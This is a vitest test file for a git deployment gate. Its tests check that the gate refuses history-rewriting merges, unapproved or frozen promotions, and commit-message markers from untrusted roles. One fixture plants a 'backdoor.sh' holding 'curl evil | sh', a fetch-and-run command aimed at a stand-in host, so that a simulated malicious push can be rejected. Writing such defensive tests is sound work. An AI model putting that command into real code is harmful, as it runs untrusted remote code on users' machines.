// The gate's rules against a developer with push access and no role: revision
// numbers never change, production-stable takes only revisions that are or
// were deployable, a freeze stops every move, markers count only when the
// trusted role vouched for them, and refused tags cost nothing.
import { existsSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Clone, type Sandbox, standardSandbox } from "../helpers/repo";

let sb: Sandbox;
let work: Clone;

beforeEach(() => {
  ({ sb, work } = standardSandbox());
});
afterEach(() => sb.cleanup());

interface Explain {
  deployable: boolean;
  why: string;
  push: { accepted: boolean; code: string };
  verdict: { value: string; source: string; markerBy: string | null; markerRole: string | null; markerIgnored: boolean } | null;
}
interface Pending {
  revno: number;
  sha: string;
  verdict: string;
  source: string;
  markerBy: string | null;
  markerRole: string | null;
  markerIgnored: boolean;
}
interface Status {
  deployable: { revno: number } | null;
  pending: Pending[];
  undeployed: Pending[];
}

/** Record a verdict while the mirror is killed before it moves production-stable, so it lags the deployable revision. */
function verdictWithoutMirror(verdict: string, rev: string): void {
  const r = sb.prodgate(["qa", verdict, rev], "quinn", { PRODGATE_FAULT: "before-update-ref" });
  expect(r.status).not.toBe(0);
}

/** A "foxtrot" merge: the pusher's own side first, the branch's tip second. */
function foxtrot(branch: string): { merge: string; original: string } {
  work.git(["fetch", "--quiet", "origin"]);
  const original = work.sha(`origin/${branch}`);
  work.git(["checkout", "--quiet", "-B", "mine", `origin/${branch}~1`]);
  work.commit("Add backdoor", { "backdoor.sh": "curl evil | sh\n" });
  work.git(["merge", "--quiet", "--no-edit", `origin/${branch}`]);
  return { merge: work.sha("HEAD"), original };
}

describe("revision numbers never change", () => {
  beforeEach(() => {
    work.commit("r2: reviewed feature", { "feature.txt": "yes\n" });
    work.land();
  });

  it("a foxtrot merge to devel is refused [renumbers], with what to do instead", () => {
    const { merge, original } = foxtrot("devel");
    expect(work.git(["merge-base", "--is-ancestor", original, merge])).toBe(""); // a fast-forward for git
    const r = work.push(["origin", "HEAD:devel"], "dev");
    expect(r.status).not.toBe(0);
    expect(r.output).toContain("rejected refs/heads/devel [renumbers]");
    expect(r.output).toContain("put the pusher's own side first");
    expect(r.output).toMatch(/what to do: .*git merge/);
    expect(sb.tip("devel")).toBe(original);
  });

  it("a foxtrot merge to stable is refused, and qa ok r2 afterwards still names the original r2", () => {
    const { original } = foxtrot("stable");
    const r = work.push(["origin", "HEAD:stable"], "dev");
    expect(r.status).not.toBe(0);
    expect(r.output).toContain("rejected refs/heads/stable [renumbers]");
    expect(sb.tip("stable")).toBe(original);

    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    const ok = sb.prodgate(["qa", "ok", "r2"], "quinn");
    expect(ok.status, ok.stderr).toBe(0);
    expect(ok.stdout).toContain("r2: reviewed feature");
    expect(ok.stdout).not.toContain("backdoor");
    expect(sb.tip("production-stable")).toBe(original);
  });

  it("stable refuses a tip already on devel whose first-parent chain skips stable's tip", () => {
    // devel takes M = merge(Y, S), its own tip first; stable moves to S, then to M: a fast-forward on devel, but renumbering stable.
    const r2 = work.sha("HEAD");
    work.git(["checkout", "--quiet", "-B", "side", r2]);
    const s = work.commit("S: side work", { "s.txt": "s\n" });
    work.git(["checkout", "--quiet", "devel"]);
    work.commit("Y: other work", { "y.txt": "y\n" });
    work.git(["merge", "--quiet", "--no-edit", "side"]);
    const m = work.sha("HEAD");
    expect(work.push(["origin", "HEAD:devel"], "dev").status).toBe(0);
    expect(work.push(["origin", `${s}:refs/heads/stable`], "dev").status).toBe(0);
    const r = work.push(["origin", `${m}:refs/heads/stable`], "dev");
    expect(r.status).not.toBe(0);
    expect(r.output).toContain("rejected refs/heads/stable [renumbers]");
    expect(sb.tip("stable")).toBe(s);
  });
});

describe("revision numbers never change on the production branches", () => {
  it("a foxtrot merge to production-devel is refused, and so is a promotion that puts another history first", () => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    work.git(["fetch", "--quiet", "origin"]);
    work.git(["checkout", "--quiet", "-B", "secfix", "origin/production-stable"]);
    work.commit("Fix one", { "one.c": "1\n" });
    expect(work.push(["origin", "HEAD:production-devel"], "sam").status).toBe(0);
    const pdev = work.sha("HEAD");
    work.git(["checkout", "--quiet", "-B", "mine", "origin/production-stable"]);
    work.commit("Fix two", { "two.c": "2\n" });
    work.git(["merge", "--quiet", "--no-edit", pdev]);
    const r = work.push(["origin", "HEAD:production-devel"], "sam");
    expect(r.output).toContain("rejected refs/heads/production-devel [renumbers]");
    expect(sb.tip("production-devel")).toBe(pdev);

    // production-stable at r1; a promotion whose first parent is another history, r1 second.
    const r1 = work.sha("origin/production-stable");
    work.git(["checkout", "--quiet", "--orphan", "side"]);
    work.commit("Unrelated root", { "root.txt": "r\n" });
    work.git(["merge", "--quiet", "--no-edit", "--allow-unrelated-histories", r1]);
    const odd = work.sha("HEAD");
    const promote = work.push(["origin", `${odd}:refs/heads/production-stable`], "sam");
    expect(promote.output).toContain("rejected refs/heads/production-stable [renumbers]");
    expect(sb.tip("production-stable")).toBe(r1);
  });
});

describe("the mirror keeps production-stable's first-parent chain", () => {
  it("merges, never fast-forwards, when stable holds production-stable's promoted fix only as a merged second parent", () => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    work.git(["fetch", "--quiet", "origin"]);
    work.git(["checkout", "--quiet", "-B", "secfix", "origin/production-stable"]);
    work.commit("Fix one", { "one.c": "1\n" });
    const fix = work.sha("HEAD");
    expect(work.push(["origin", "HEAD:production-devel"], "sam").status).toBe(0);
    expect(sb.prodgate(["ci", "pass", fix], "cid").status).toBe(0);
    expect(work.push(["origin", "HEAD:production-stable"], "sam").status).toBe(0);
    // The fix merged back into devel, then stable: it is an ancestor of r3, as a second parent only.
    work.git(["checkout", "--quiet", "-B", "back", "origin/devel"]);
    work.commit("r2: more work", { "more.txt": "m\n" });
    work.git(["merge", "--quiet", "--no-edit", fix]);
    work.land();
    const qa = sb.prodgate(["qa", "ok", "r2", "r3"], "quinn");
    expect(qa.stdout).toContain("(by a merge that keeps its own commits)");
    const prod = sb.tip("production-stable")!;
    expect(prod).not.toBe(work.sha("HEAD"));
    const chain = sb.git(["rev-list", "--first-parent", prod], { cwd: sb.bare }).split("\n");
    expect(chain).toContain(fix);
    expect(sb.git(["rev-list", "--no-walk", "--parents", prod], { cwd: sb.bare }).split(" ").slice(1)).toEqual([fix, work.sha("HEAD")]);
    // production-devel follows along the same chain.
    expect(sb.tip("production-devel")).toBe(prod);
  });
});

describe("production-stable takes only revisions that are or were deployable", () => {
  it("refuses a side-branch commit that stable merged later, then takes the merge itself", () => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    const r1 = work.sha("HEAD");
    work.git(["checkout", "--quiet", "-b", "feature"]);
    const wip = work.commit("WIP: half done, do not ship", { "wip.txt": "wip\n" });
    work.commit("feature done", { "wip.txt": "done\n" });
    work.git(["checkout", "--quiet", "devel"]);
    work.git(["merge", "--quiet", "--no-ff", "--no-edit", "feature"]);
    work.land();
    verdictWithoutMirror("ok", "r2");
    expect(sb.tip("production-stable")).toBe(r1);

    const side = work.push(["origin", `${wip}:refs/heads/production-stable`], "dev");
    expect(side.status).not.toBe(0);
    expect(side.output).toContain("[unapproved]");
    expect(side.output).toContain("is not a stable revision that is or was deployable");
    expect(sb.tip("production-stable")).toBe(r1);
    const ex = sb.json<Explain>(["explain", wip], "dev");
    expect(ex.deployable).toBe(false);
    expect(ex.push).toMatchObject({ accepted: false, code: "unapproved" });

    const ok = work.push(["origin", "devel:production-stable"], "dev");
    expect(ok.status, ok.output).toBe(0);
    expect(sb.tip("production-stable")).toBe(work.sha("devel"));
  });

  it("a bad revision never goes out without its rollback: r2 alone is refused, r3 is taken", () => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    const r2 = work.commit("r2: breaks checkout", { "checkout.txt": "broken\n" });
    const r3 = work.commit("Revert r2 [rollback=r2]", { "checkout.txt": "fixed\n" });
    work.land();
    expect(sb.prodgate(["qa", "bad", "r2"], "quinn").status).toBe(0);
    verdictWithoutMirror("ok", "r3");
    expect(sb.json<Status>(["status"]).deployable?.revno).toBe(3);

    const ex = sb.json<Explain>(["explain", "r2"], "dev");
    expect(ex.deployable).toBe(false);
    expect(ex.why).toContain("only goes out together with its rollback r3");
    expect(ex.push.code).toBe("unapproved");
    const text = sb.prodgate(["explain", "r2"], "dev").stdout;
    expect(text.split("\n")[0]).toMatch(/^deployable: no — /);

    const alone = work.push(["origin", `${r2}:refs/heads/production-stable`], "dev");
    expect(alone.status).not.toBe(0);
    expect(alone.output).toContain("[unapproved]");
    expect(sb.tip("production-stable")).not.toBe(r2);

    expect(sb.json<Explain>(["explain", "r3"], "dev").push.code).toBe("approved");
    const both = work.push(["origin", `${r3}:refs/heads/production-stable`], "dev");
    expect(both.status, both.output).toBe(0);
    expect(sb.tip("production-stable")).toBe(r3);
  });

  it("a rollback is verdicted itself, whatever marker it carries", () => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    const r1 = work.sha("HEAD");
    work.commit("r2: bad", { "x.txt": "bad\n" });
    work.land("cid");
    expect(sb.prodgate(["qa", "bad", "r2"], "quinn").status).toBe(0);
    work.git(["commit", "--quiet", "--allow-empty", "-m", "Revert nothing [rollback=r2] [no-qa]"]);
    work.land("cid");
    const st = sb.json<Status>(["status"]);
    expect(st.pending.map((p) => p.revno)).toEqual([3]);
    expect(st.pending[0]!.markerIgnored).toBe(true);
    expect(sb.tip("production-stable")).toBe(r1);
    expect(work.push(["origin", "devel:production-stable"], "dev").output).toContain("[unapproved]");
  });
});

describe("a freeze stops every move of production-stable", () => {
  beforeEach(() => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
    work.commit("r2: next", { "next.txt": "2\n" });
    work.land();
    expect(sb.prodgate(["freeze", "--reason", "incident 42: do not deploy"], "ada").status).toBe(0);
    expect(sb.prodgate(["qa", "ok", "r2"], "quinn").status).toBe(0);
  });

  it("refuses the deployable revision from anyone, saying who froze it and why", () => {
    const before = sb.tip("production-stable");
    for (const user of ["dev", "quinn"]) {
      const r = work.push(["origin", "devel:production-stable"], user);
      expect(r.status).not.toBe(0);
      expect(r.output).toContain("[frozen]: production-stable is frozen by ada (incident 42: do not deploy)");
      expect(r.output).toContain("prodgate thaw");
    }
    expect(sb.tip("production-stable")).toBe(before);
    expect(sb.json<Explain>(["explain", "r2"], "dev").push.code).toBe("frozen");
  });

  it("lets an admin's audited override through", () => {
    const r = work.push(["-o", "prodgate.override=incident 42: ship the fix", "origin", "devel:production-stable"], "ada");
    expect(r.status, r.output).toBe(0);
    expect(r.output).toContain("OVERRIDE");
    expect(sb.tip("production-stable")).toBe(work.sha("devel"));
    const log = sb.json<{ decision: string; detail: string | null }[]>(["log", "--limit", "5"]);
    expect(log.find((e) => e.decision === "override")?.detail).toContain("overrode frozen");
  });

  it("lets a tested security promotion through", () => {
    work.git(["fetch", "--quiet", "origin"]);
    work.git(["checkout", "--quiet", "-B", "secfix", "origin/production-stable"]);
    const fix = work.commit("Fix auth bypass", { "auth.c": "check\n" });
    expect(work.push(["origin", "HEAD:production-devel"], "sam").status).toBe(0);
    expect(sb.prodgate(["ci", "pass", fix], "cid").status).toBe(0);
    const r = work.push(["origin", "HEAD:production-stable"], "sam");
    expect(r.status, r.output).toBe(0);
    expect(sb.tip("production-stable")).toBe(fix);
  });
});

describe("markers count only when the trusted role brought the commit (prodgate.markers.trust)", () => {
  beforeEach(() => {
    expect(sb.prodgate(["qa", "ok", "r1"], "quinn").status).toBe(0);
  });

  it("a developer's [no-qa] waits for QA, even when ci advances stable to it", () => {
    const r1 = work.sha("HEAD");
    work.commit("Add backdoor [no-qa]", { "backdoor.sh": "evil\n" });
    expect(work.push(["origin", "HEAD:devel"], "dev").status).toBe(0);
    expect(work.push(["origin", "HEAD:stable"], "cid").status).toBe(0);
    expect(sb.tip("production-stable")).toBe(r1);
    const st = sb.json<Status>(["status"]);
    expect(st.pending.map((p) => p.revno)).toEqual([2]);
    expect(st.pending[0]).toMatchObject({ source: "default", markerIgnored: true });
    expect(sb.prodgate(["status"]).stdout).toContain("marker does not count");
    expect(work.push(["origin", "devel:production-stable"], "dev").output).toContain("[unapproved]");
  });

  it("ci's [no-qa] counts, and is shown as untestable by its message, never as judged by QA", () => {
    const docs = work.commit("Fix a typo [no-qa]", { "docs.txt": "typo\n" });
    expect(work.push(["origin", "HEAD:devel"], "cid").status).toBe(0);
    expect(work.push(["origin", "HEAD:stable"], "dev").status).toBe(0);
    expect(sb.tip("production-stable")).toBe(docs);
    // Shown before it ships too: hold the next one with a freeze.
    sb.prodgate(["freeze", "--reason", "look"], "ada");
    const again = work.commit("More docs [testfix]", { "docs.txt": "more\n" });
    expect(work.push(["origin", "HEAD:devel"], "cid").status).toBe(0);
    expect(work.push(["origin", "HEAD:stable"], "cid").status).toBe(0);
    const st = sb.json<Status>(["status"]);
    const entry = st.undeployed.find((p) => p.sha === again)!;
    expect(entry).toMatchObject({ verdict: "untestable", source: "message-tag", markerBy: "cid", markerRole: "ci" });
    const text = sb.prodgate(["status"]).stdout;
    expect(text).toContain("untestable by its message (pushed by cid, role ci), not judged by QA");
    const ex = sb.prodgate(["explain", "r3"], "dev").stdout;
    expect(ex).toContain("verdict: untestable by its message (pushed by cid, role ci), not judged by QA");
    expect(sb.json<Explain>(["explain", "r3"], "dev").verdict).toMatchObject({ source: "message-tag", markerBy: "cid" });
  });

  it("ci vouches only for what it puts on devel's mainline, not for a developer's commit merged beside it", () => {
    const r1 = work.sha("HEAD");
    work.git(["checkout", "--quiet", "-b", "feature"]);
    const x = work.commit("Sneak past QA [no-qa]", { "x.txt": "x\n" });
    work.git(["checkout", "--quiet", "devel"]);
    work.git(["merge", "--quiet", "--no-ff", "--no-edit", "feature"]);
    expect(work.push(["origin", "HEAD:devel"], "cid").status).toBe(0);
    // The side commit is on devel, and its parent is stable's tip: stable may take it as r2.
    expect(work.push(["origin", `${x}:refs/heads/stable`], "dev").status).toBe(0);
    expect(sb.tip("production-stable")).toBe(r1);
    const st = sb.json<Status>(["status"]);
    expect(st.pending.map((p) => p.sha)).toEqual([x]);
  });

  it("trust = anyone keeps every developer's markers counting", () => {
    sb.git(["config", "prodgate.markers.trust", "anyone"], { cwd: sb.bare });
    const docs = work.commit("Docs [no-qa]", { "docs.txt": "x\n" });
    work.land("dev");
    expect(sb.tip("production-stable")).toBe(docs);
  });

  it("a value that is neither anyone nor a role fails closed, naming the key", () => {
    sb.git(["config", "prodgate.markers.trust", "everyone"], { cwd: sb.bare });
    work.commit("r2");
    const r = work.push(["origin", "HEAD:devel"], "dev");
    expect(r.status).not.toBe(0);
    expect(r.output).toContain("prodgate.markers.trust");
  });
});

describe("refused verdict tags cost nothing but their audit rows", () => {
  it("many qa/ok tags from someone without the qa role start no git process in the engine", () => {
    // Without the shim's answers the engine would have to ask git for every tag itself.
    rmSync(join(sb.bare, "prodgate", "prefetch"), { recursive: true, force: true });
    const trace = join(sb.root, "trace.txt");
    for (let i = 0; i < 40; i++) work.git(["tag", `qa/ok/spam-${i}`, "HEAD"]);
    const r = work.push(["origin", "--tags"], "dev", { PRODGATE_TRACE: trace });
    expect(r.status).not.toBe(0);
    expect(r.output).toContain("[role-required]");
    expect(existsSync(trace)).toBe(true);
    const line = readFileSync(trace, "utf8").trim().split("\n")[0]!;
    expect(line).toMatch(/^pre-receive .* git=0$/);
    const rows = sb.json<{ ref: string; code: string }[]>(["log", "--limit", "100", "--rejected"]);
    expect(rows.filter((e) => e.ref.startsWith("refs/tags/qa/ok/spam-") && e.code === "role-required")).toHaveLength(40);
  });
});
